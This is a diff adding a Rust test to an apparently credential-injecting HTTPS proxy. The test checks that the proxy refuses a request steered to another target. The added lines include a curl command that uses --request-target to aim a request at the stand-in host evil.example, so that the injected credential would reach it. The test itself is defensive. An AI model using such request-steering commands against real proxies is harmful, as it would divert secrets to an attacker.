@@ -133,6 +133,22 @@ fn an_intercepted_https_credential_reaches_the_upstream_and_never_the_code() {
     assert!(out.starts_with("authorized\nauthorized\n"), "{out}{err}");
     assert!(!out.contains(&secret), "{out}");
     assert!(out.contains("SSL_CERT_FILE="), "{out}");
+    // Inside the intercepted tunnel, a request naming another target is refused, so the
+    // credential cannot be routed to another site of the same server.
+    let (steered, err) = run(
+        &ws,
+        &config,
+        &format!(
+            "curl -sS --request-target https://evil.example/ https://127.0.0.2:{}/",
+            server.port
+        ),
+        &env,
+    );
+    assert_eq!(
+        steered.trim(),
+        "jianmu proxy: inside the tunnel, send the path only (GET /path)",
+        "{err}"
+    );
     // Without interception the header passes as the code wrote it: not the secret.
     std::fs::write(
         &config,
